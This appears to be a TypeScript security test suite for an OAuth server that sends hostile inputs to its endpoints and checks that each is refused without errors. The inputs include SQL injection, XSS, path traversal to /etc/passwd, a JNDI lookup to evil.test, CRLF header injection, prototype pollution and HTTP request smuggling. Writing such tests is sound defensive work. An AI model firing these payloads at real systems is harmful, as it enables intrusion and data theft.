import { expect } from 'chai';
import { aBrowser } from '../support/browser.ts';
import { raw } from '../support/http.ts';
import { aSite, PASSWORD, type Site, startNode, type TestNode, TV, WEB, WEB_SECRET } from '../support/node.ts';
import { AS_WEB, ask, authorizeUrl, basic, bearer, post } from '../support/oauth.ts';

/** Of the Big List of Naughty Strings and its like: what breaks a query, a parser, a header, a page or a log. */
const NAUGHTY = [
  "' or 1=1 --",
  `";drop table users;--`,
  '%27%20or%201=1',
  '1;select pg_sleep(5)',
  '%_\\',
  '$1',
  '?',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
  '0x10',
  '../../etc/passwd',
  '..%2f..%2f',
  'file:///etc/passwd',
  '<script>alert(1)</script>',
  `"><img src=x onerror=alert(1)>`,
  '<%= 7*7 %>',
  `$${'{7*7}'}`,
  '{{7*7}}',
  `$${'{jndi:ldap://evil.test/a}'}`,
  '\r\nSet-Cookie: a=b',
  '\u001b[31m',
  '\u202Eright to left',
  '\u200b',
  '\ufeff',
  'é',
  'İ',
  'ﷺ',
  '👨‍👩‍👧',
  '𝕳',
  'Ω≈ç√∫',
  '\u0000',
  '\ud800',
  ' ',
  '\t',
  'a'.repeat(10_000),
  '('.repeat(5_000),
  'a@'.repeat(3_000),
];

const encode = (value: string) => (value.isWellFormed() ? encodeURIComponent(value) : '%ED%A0%80');
const formOf = (fields: Record<string, string>) =>
  Object.entries(fields)
    .map(([name, value]) => `${encode(name)}=${encode(value)}`)
    .join('&');

describe('hostile input', () => {
  let node: TestNode;
  let site: Site;
  before(async () => {
    node = await startNode();
  });
  // Limits count by tenant and address.
  beforeEach(async () => {
    site = await aSite(node, { clients: [WEB, TV] });
  });
  after(() => node.stop());

  const untouched = Object.getOwnPropertyNames(Object.prototype).sort();
  afterEach(() => {
    expect(Object.getOwnPropertyNames(Object.prototype).sort(), 'nobody changed all objects (IN11)').to.deep.equal(
      untouched,
    );
    const failed = node.logged.filter((line) => /"level":"(error|fatal)"/.test(line));
    expect(
      failed.map((line) => line.slice(0, 300)),
      'no refusal is a fault of ours, no SQLSTATE is met (IN01, IN06)',
    ).to.deep.equal([]);
  });

  const endpoints: Record<string, Record<string, string>> = {
    '/oauth/token': {
      grant_type: 'authorization_code',
      code: 'x',
      redirect_uri: 'x',
      code_verifier: 'v'.repeat(43),
      refresh_token: 'x',
      scope: 'openid',
      resource: 'https://api.acme.test',
      device_code: 'x',
      client_id: 'web',
    },
    '/oauth/introspect': { token: 'x', token_type_hint: 'access_token' },
    '/oauth/revoke': { token: 'x', token_type_hint: 'refresh_token' },
    '/oauth/par': Object.fromEntries(authorizeUrl({ issuer: 'https://x.test' }).searchParams),
    '/oauth/device': { client_id: 'tv', scope: 'openid' },
  };
  for (const [path, fields] of Object.entries(endpoints))
    it(`in any parameter of ${path} is refused or harmless (IN01, IN34)`, async () => {
      for (const name of [...Object.keys(fields), 'unknown'])
        for (const value of NAUGHTY) {
          const own = path === '/oauth/device' || name === 'client_id' ? {} : AS_WEB;
          const { status, text } = await post(node, site, path, formOf({ ...fields, [name]: value }), own);
          expect([name, value.slice(0, 30), status < 500]).to.deep.equal([name, value.slice(0, 30), true]);
          expect(text).to.not.match(/at .+\.ts:|select |insert |SQLSTATE/);
        }
    });

  it('as a name of a parameter reaches nothing (IN11, IN15)', async () => {
    for (const name of [
      '__proto__',
      '__proto__[admin]',
      'constructor.prototype.x',
      'a[b]',
      'a.b',
      'toString',
      ...NAUGHTY.slice(0, 12),
    ])
      expect(
        (await post(node, site, '/oauth/introspect', formOf({ token: 'x', [name]: 'y' }))).status,
        name,
      ).to.be.oneOf([200, 400]);
    expect((await post(node, site, '/oauth/introspect', 'token=x&token=y')).status).to.equal(400);
    expect(
      (await post(node, site, '/oauth/introspect', Array.from({ length: 300 }, (_, index) => `p${index}=x`).join('&')))
        .status,
    ).to.equal(400);
  });

  it('in the address of a sign-in ends on a page or with the application, never in markup or a header (IN16, IN23)', async () => {
    for (const name of [
      'client_id',
      'redirect_uri',
      'scope',
      'state',
      'nonce',
      'prompt',
      'max_age',
      'ui_locales',
      'login_hint',
      'acr_values',
      'claims',
      'response_mode',
      'code_challenge',
      'resource',
      'id_token_hint',
    ])
      for (const value of NAUGHTY.filter((each) => each.length < 1_000)) {
        const query = formOf({ ...Object.fromEntries(authorizeUrl(site).searchParams), [name]: value });
        const answer = await ask(node, 'GET', `${site.issuer}/oauth/authorize?${query}`, {
          headers: { accept: 'text/html' },
        });
        expect([name, value, answer.status < 500]).to.deep.equal([name, value, true]);
        expect(answer.text).to.not.include('<script>alert').and.not.include('onerror=alert(1)>');
        for (const cookie of answer.headers.getSetCookie()) expect(cookie).to.not.match(/^a=b/);
      }
  });

  it('at the login page is shown as text, and refused like any wrong password (IN23, IN34, CR12)', async () => {
    const its = await aSite(node);
    const browser = aBrowser(node);
    let page = await browser.go(authorizeUrl(its, { login_hint: '"><script>alert(1)</script>' }));
    expect(page.html).to.not.include('<script>alert');
    for (const value of NAUGHTY.filter((each) => each.isWellFormed() && !each.includes('\u0000')).slice(0, 40)) {
      page = await browser.submit(await browser.go(page.url), {
        identifier: value,
        password: PASSWORD,
        action: 'login',
      });
      expect([value, page.status]).to.be.deep.oneOf([
        [value, 401],
        [value, 429],
      ]);
      expect(page.html)
        .to.not.include('<script>alert')
        .and.not.include('onerror=alert(1)>')
        .and.not.include('>49')
        .and.not.include('"49');
    }
  });

  it('in a Bearer or Basic header is refused (IN01)', async () => {
    for (const value of NAUGHTY.filter((each) => /^[\x20-\x7e]+$/.test(each))) {
      expect(
        (await ask(node, 'GET', `${site.issuer}/oauth/userinfo`, { headers: bearer(value) })).status,
        value.slice(0, 30),
      ).to.be.oneOf([400, 401]);
      expect(
        (
          await post(
            node,
            site,
            '/oauth/token',
            { grant_type: 'client_credentials' },
            { authorization: `Basic ${value}` },
          )
        ).status,
        value.slice(0, 30),
      ).to.be.oneOf([400, 401, 429]);
      expect(
        (await post(node, site, '/oauth/token', { grant_type: 'client_credentials' }, basic(value, WEB_SECRET))).status,
        value.slice(0, 30),
      ).to.be.oneOf([400, 401, 429]);
    }
  });

  it('of another kind than a form is not read (IN12, IN13)', async () => {
    const body = formOf({ token: 'x' });
    const send = (headers: Record<string, string>) =>
      post(node, site, '/oauth/introspect', body, { ...AS_WEB, ...headers });
    for (const type of [
      'application/json',
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/x-www-form-urlencoded; charset=utf-7',
      'application/xml',
      'application/vnd.x+json',
    ])
      expect((await send({ 'content-type': type })).status, type).to.equal(415);
    for (const encoding of ['gzip', 'br', 'deflate', 'gzip, gzip', 'zstd'])
      expect((await send({ 'content-encoding': encoding })).status, encoding).to.equal(415);
  });

  it('that two parsers would read differently is refused and the connection closed (IN18)', async () => {
    const path = `/t/${site.slug}/oauth/introspect`;
    const head = `POST ${path} HTTP/1.1\r\nHost: localhost:${node.port}\r\nContent-Type: application/x-www-form-urlencoded\r\n`;
    for (const [what, request] of Object.entries({
      'two lengths': `${head}Content-Length: 3\r\nContent-Length: 30\r\n\r\nabc`,
      'length and chunks': `${head}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      'another coding': `${head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`,
      'a space before the colon': `${head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`,
      'a bare line feed': `${head}X: a\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      'a folded header': `${head}X: a\r\n b: c\r\nContent-Length: 0\r\n\r\n`,
    })) {
      const { status, headers } = await raw(
        node.port,
        request.replace('Content-Type', 'Connection: close\r\nContent-Type'),
      );
      expect([what, status]).to.deep.equal([what, 400]);
      expect(headers.get('x-content-type-options')).to.equal('nosniff');
    }
  });

  it('about who asks is not believed: the address is the socket’s (IN19)', async () => {
    const its = await aSite(node, { clients: [{ ...WEB, clientId: 'near', allowedIps: ['203.0.113.0/24'] }] });
    for (const headers of [
      { 'x-forwarded-for': '203.0.113.1' },
      { 'x-real-ip': '203.0.113.1' },
      { forwarded: 'for=203.0.113.1' },
      { 'x-forwarded-for': Array(1_000).fill('203.0.113.1').join(', ') },
      { 'x-forwarded-for': `'"<x>` },
    ] as Record<string, string>[])
      expect(
        (await post(node, its, '/oauth/introspect', { token: 'x' }, { ...basic('near', WEB_SECRET), ...headers }))
          .status,
      ).to.equal(401);
  });

  it('in the log is one line each, and cannot be told for ours (IN20, IN21)', async () => {
    const before = node.logged.length;
    await ask(node, 'GET', `${site.issuer}/x?a=${encodeURIComponent('\n{"level":"fatal"}')}`, {
      headers: {
        'user-agent': `$${'{jndi:ldap://x}'} [31m`,
        'x-request-id': '{"a":1}',
        traceparent: 'x'.repeat(10_000),
      },
    });
    const lines = node.logged.slice(before);
    expect(lines.length).to.be.greaterThan(0);
    for (const line of lines) {
      expect(line.trim().split('\n')).to.have.length(1);
      expect((JSON.parse(line) as { requestId?: string }).requestId).to.not.equal('{"a":1}');
    }
  });
});
